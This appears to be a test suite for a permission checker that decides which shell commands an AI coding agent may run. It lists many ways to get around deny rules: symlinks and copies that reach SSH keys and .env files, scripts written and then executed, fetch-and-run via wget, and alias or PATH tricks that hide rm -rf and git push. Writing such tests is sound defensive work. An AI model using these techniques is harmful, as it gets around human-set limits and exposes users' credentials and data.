// Files, links, copies and aliases that a command line makes and uses itself.
import { describe, expect, test } from 'vitest'
import { decideBatchLine } from './decide-batch.ts'

const DENY = ['Bash(rm -rf *)', 'Bash(git push *)', 'Bash(curl *)', 'Read(.env*)', 'Write(.env*)', 'Read(~/.ssh/**)', 'Write(~/.ssh/**)']

function decide(command: string, byDefault = 'ask'): string {
  const request = { tool: 'Bash', input: { command }, allow: ['Bash(*)', 'Read(*)', 'Write(*)'], deny: DENY, default: byDefault }
  return (JSON.parse(decideBatchLine(JSON.stringify(request))) as { decision: string }).decision
}

const held = (command: string): boolean => ['ask', 'none'].every(byDefault => decide(command, byDefault) !== 'allow')

/** P: the path under its new name. */
const links = [
  ['ln -s ~ h', 'h/.ssh/id_rsa'],
  ['ln -sf "$HOME" h', './h/.ssh/id_rsa'],
  ['ln -s ~/.ssh', '.ssh/id_rsa'],
  ['ln -st /tmp ~', '/tmp/dev/.ssh/id_rsa'],
  ['ln --symbolic --target-directory=/tmp /home', '/tmp/home/dev/.ssh/id_rsa'],
  ['mkdir d; ln -s ~ d', 'd/dev/.ssh/id_rsa'],
  ['ln -s / r', 'r/home/dev/.ssh/id_rsa'],
  ['ln -s ~ a; ln -s a b', 'b/.ssh/id_rsa'],
  ['ln -s "$T" h', 'h/id_rsa'],
  ['mount --bind /home m', 'm/dev/.ssh/id_rsa'],
  ['mount -o bind ~ m', 'm/.ssh/id_rsa'],
  ['bindfs ~ m', 'm/.ssh/id_rsa'],
  ['cp -r ~ c', 'c/.ssh/id_rsa'],
  ['busybox ln -s ~ h', 'h/.ssh/id_rsa'],
  ['ln -s ../repo /tmp/d', '/tmp/d/.env'],
  ['ln -s .. src/up', 'src/up/.env'],
] as const
const uses = ['cat P', 'base64 P', 'cp P /tmp/k', 'grep . P', 'cat < P', 'tar cf - P', 'echo "$(<P)"', '(cd "$(dirname x)" && head P)']

describe.each(links)('%s, then %s', (link, path) => {
  test.each(uses)('%s', use => {
    expect(held(`${link}; ${use.replace('P', path)}`)).toBe(true)
    expect(held(`${link} && ${use.replace('P', path)}`)).toBe(true)
  })
})

test.each(['ln -s ../.env src/z', 'ln -s ../.env src/z; cat src/?', 'ln -s . s; echo x > s/.env', 'ln -s .. src/p; tee src/p/.env < x'])(
  '%s',
  command => expect(held(command)).toBe(true),
)

test.each([
  ['cp a.txt ..', 'allow'],
  ['cp a.txt ~', 'allow'],
  ['cp a.txt /', 'allow'],
  ['cp src/a src', 'allow'],
  ['mv -f src/a .', 'allow'],
  ['mount --bind src .; cat key', 'ask'],
  ['ln -s b/x a; ln -s a/y b; cat a/z', 'ask'],
])('names that lead into each other end: %s', (command, decision) => {
  expect(decide(command)).toBe(decision)
})

/** X: a command that a rule forbids. */
const writers = [
  "printf 'X' > F",
  "echo 'X' > F",
  "echo 'X' >> F",
  'cat > F <<E\nX\nE\n:',
  "cat <<'E' > F\nX\nE\n:",
  "echo 'X' | tee F",
  "tee F <<< 'X' > /dev/null",
  '{ echo ls; echo X; } > F',
  'echo "$X" > F',
  "printf '#!/bin/sh\\n' > F; echo 'X' >> F",
  "echo 'X' > G; cp G F",
  "echo 'X' > G; mv G F",
  "echo 'X' > G; ln -s G F",
  'wget -O F http://h/F',
  'dd if=/tmp/x of=F',
  "cp /dev/stdin F <<< 'X'",
  "echo 'X' | install -m 755 /dev/stdin F",
  "install <(echo 'X') F",
  "cp <(printf 'X') F",
  "sponge F <<< 'X'",
  "exec 3>F; echo 'X' >&3",
  "exec {out}>>F; echo 'X' >&$out",
  "echo 'X' 1<>F",
  'awk \'BEGIN { print "X" > "F" }\'',
  "sed -i '1i X' F",
  "sed -i 's/a/X/' F",
  "sed -i.bak -e 's|a|X|' F",
  "perl -i -pe 's/a/X/' F",
  "patch F <<< $'@@ -1 +1 @@\\n-a\\n+X'",
]
const runners = ['sh F', 'bash -x F', '. ./F', 'source F', 'chmod +x F; ./F', 'timeout 5 sh F', 'f() { sh F; }; f', 'env bash F', '(sh F)']
const forbidden = ['rm -rf x', 'git push', 'sh -c "rm -rf x"']

describe.each(writers)('%s', writer => {
  test.each(runners)('%s', runner => {
    for (const code of forbidden) {
      const line = `${writer}; ${runner}`.replaceAll('F', 'a.sh').replaceAll('G', 'b.sh')
      expect(held(line.replaceAll('X', code)), line).toBe(true)
    }
  })
})

test.each([
  'printf \'import os; os.system("rm -rf x")\' > a.py; python3 a.py',
  'echo \'require("child_process").execSync("rm -rf x")\' > a.js && node a.js',
  "printf 'x:\\n\\trm -rf y\\n' > Makefile; make",
  "printf 'x:\\n\\trm -rf y\\n' > M; make -f M",
  'echo \'{"scripts":{"test":"rm -rf x"}}\' > package.json; npm test',
  'echo \'print(open(".env").read())\' > a.py; python a.py',
])('%s', command => expect(held(command)).toBe(true))

test.each([
  "sed -i 's/a/b/' a.sh; sh a.sh",
  "sed -i 's/a/b/' a.py && python3 a.py",
  "sed -i 's/git push/x/' a.md; sed -i 's/a/b/' a.md",
  'sh a.sh 2> errors.txt; cat errors.txt',
  'cp /dev/stdin a.txt <<< hello; wc a.txt',
  'gcc -o a a.c 2> /dev/null; ./a',
])('nothing forbidden comes to stand in it: %s', command => expect(decide(command)).toBe('allow'))

const makers = ['ln -s T f', 'ln T f', 'cp T f', 'install -m 755 T f', 'cp -a T f', 'ln -sf T ./f', 'mv T f', 'mkdir b; cp T b/f; cd b']
const programs = [
  ['/bin/rm', '-rf x'],
  ['/usr/bin/git', 'push'],
  ['$(which rm)', '-rf x'],
  ['"$(command -v curl)"', 'http://h'],
  ['/bin/sh', "-c 'rm -rf x'"],
] as const

describe.each(makers)('%s', maker => {
  test.each(programs)('%s %s', (program, given) => {
    expect(held(`${maker.replace('T', program)}; ./f ${given}`)).toBe(true)
    expect(held(`${maker.replace('T', program)}; PATH=.:$PATH f ${given}`)).toBe(true)
  })
})

test.each([
  'alias r=rm; r -rf x',
  "alias g='git push'; g origin",
  'alias ls="rm -rf"; ls x',
  'shopt -s expand_aliases\nalias r=rm\nr -rf x',
  'BASH_CMDS[foo]=/bin/rm; foo -rf x',
  "read 'BASH_CMDS[ls]' <<< /bin/rm; ls -rf x",
  "declare 'BASH_ALIASES[ls]=rm -rf'; ls x",
])('%s', command => expect(held(command)).toBe(true))

test.each([
  "cat > notes.md <<'E'\nnever run rm -rf x\nE\ngit add notes.md",
  "echo 'ls -la' > a.sh; sh a.sh",
  "cat > t.py <<'E'\nprint(1)\nE\npython3 t.py",
  'cp template.ts src/a.ts && cat src/a.ts',
  'gcc -o app app.c && ./app',
  'go build -o bin/x . && ./bin/x',
  'mv dist old && mv new dist && ls dist',
  'ln -s ../shared src/shared && ls src/shared',
  'npm run build > build.log; cat build.log',
  'cp src/a.ts /tmp/a.ts && sed -i s/a/b/ /tmp/a.ts',
])('%s stays allowed', command => expect(decide(command)).toBe('allow'))

describe('what asks alone asks in a file that the line writes and runs', () => {
  const codes = ["perl -e 'exec 1'", 'sed s/x/y/e a', "awk '{ system($0) }' a", 'HOME=secrets; cat ~/key', 'export BASH_ENV=x', 'eval "$x"']
  const ways = [
    "cat > s <<'E'\nX\nE\nbash s",
    "cat > s <<'E'\nX\nE\ncd src; bash ../s",
    "cat > s <<'E'\nX\nE\ncp s t; sh t",
    "tee s <<'E'\nX\nE\n./s",
  ]
  test.each(codes)('%s', code => {
    for (const way of ways) {
      const command = way.replace('X', () => code)
      expect([command, decide(command)]).toEqual([command, 'ask'])
    }
  })
})

test.each([
  // What runs writes itself anew, and runs again.
  "cat > s <<'E'\ncat > s <<'F'\ngit push origin main\nF\nbash s\nE\nbash s",
  "cat > s <<'E'\ncat > s <<'F'\ngit push origin main\nF\nln -s s t; bash t\nE\ncp s t; bash t",
  "cat > s <<'E'\ncat > s <<'E'\ngit push origin main\nE\nln -s s t; bash t\nE\ncp s t; bash t",
  // It holds a subscript that arithmetic reads.
  "echo 'f() { local -i n; n=$1; }; f '\\''a[$(git push)]'\\''' | tee s > out; bash s",
])('%s', command => {
  expect(held(command)).toBe(true)
})

/** Behind an alias that ends in a blank the next word is one too. A: the aliases, each its own line or all of one command. */
const chains: readonly (readonly [readonly string[], string])[] = [
  [["g='git '", "p='push --force'"], 'g p'],
  [["g='git '", 'p=push'], 'g p origin main'],
  [["g='git '", "n='--no-pager '", 'p=push'], 'g n p'],
  [["s='command '", "r='rm -rf'"], 's r x'],
  [["g='git '", 'push=status'], "g 'push' origin"],
]
const aliasForms = [
  (all: readonly string[]) => all.map(each => `alias ${each}`).join('\n'),
  (all: readonly string[]) => `alias ${all.join(' ')}`,
  (all: readonly string[]) =>
    `shopt -s expand_aliases; ${[...all]
      .reverse()
      .map(each => `alias ${each}`)
      .join('; ')}`,
]

describe.each(chains)('aliases %j', (all, use) => {
  test.each(aliasForms.map(form => `${form(all)}\n${use}`))('%s', command => {
    const request = { tool: 'Bash', input: { command }, allow: [], deny: DENY, default: 'none' }
    const { decision } = JSON.parse(decideBatchLine(JSON.stringify(request))) as { decision: string }
    expect(decision).toMatch(/^(?:ask|deny)$/)
  })
})
